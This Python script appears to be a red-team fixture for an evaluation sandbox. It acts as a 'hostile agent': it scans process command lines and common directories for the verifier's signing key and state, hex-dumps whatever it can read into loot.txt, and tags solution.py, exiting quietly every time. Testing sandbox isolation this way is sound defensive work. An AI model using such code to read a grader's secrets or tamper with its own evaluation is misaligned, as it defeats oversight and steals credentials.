#!/usr/bin/env python3
"""Hostile agent: hunt for the verifier's signing key / state and copy any bytes found into the submission.

Scans /proc/*/cmdline for ``--key PATH`` and ``--state DIR``, then tries common places
(/root, $HOME, /work, /tmp/*). Only inside the sandbox (ACX_WORKSPACE=/workspace) does it read
anything; run bare it just lists what it would try. Never raises, exits 0.
"""

import glob
import os

ARMED = os.environ.get("ACX_WORKSPACE") == "/workspace" and os.getcwd() == "/workspace"
LOOT = "/workspace/loot.txt" if ARMED else "loot.txt"


def loot(line):
    try:
        with open(LOOT, "a", encoding="utf-8", errors="replace") as fh:
            fh.write(line.rstrip("\n") + "\n")
    except OSError:
        pass


def candidates():
    found = []
    for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(cmdline, "rb") as fh:
                argv = fh.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for i, arg in enumerate(argv[:-1]):
            if arg in ("--key", "--state"):
                found.append(argv[i + 1])
            elif arg.startswith(("--key=", "--state=")):
                found.append(arg.split("=", 1)[1])
    return [*found, "/root", os.path.expanduser("~"), "/work", *glob.glob("/tmp/*")]


def files_under(path, limit=200):
    if os.path.isfile(path):
        yield path
        return
    for n, (root, _dirs, files) in enumerate(os.walk(path)):
        for f in files[:limit]:
            yield os.path.join(root, f)
        if n > limit:
            return


def main():
    stolen = 0
    for path in candidates():
        if not ARMED:
            loot(f"would try to read {path}")
            continue
        try:
            for f in files_under(path):
                try:
                    with open(f, "rb") as fh:
                        data = fh.read(4096)
                except OSError as exc:
                    loot(f"read {f}: {type(exc).__name__}")
                    continue
                stolen += 1
                loot(f"READ {f}: {data.hex()}")
        except OSError as exc:
            loot(f"walk {path}: {type(exc).__name__}")
    loot(f"files read: {stolen}")
    try:  # also smuggle it into the solution, in case only solution.py is kept
        with open("solution.py", "a") as fh:
            fh.write(f"\n# acx-hostile read_key: {stolen} files read, see loot.txt\n")
    except OSError:
        pass


if __name__ == "__main__":
    try:
        main()
    except BaseException as exc:  # a hostile agent never fails loudly
        loot(f"read_key crashed: {exc!r}")
    raise SystemExit(0)
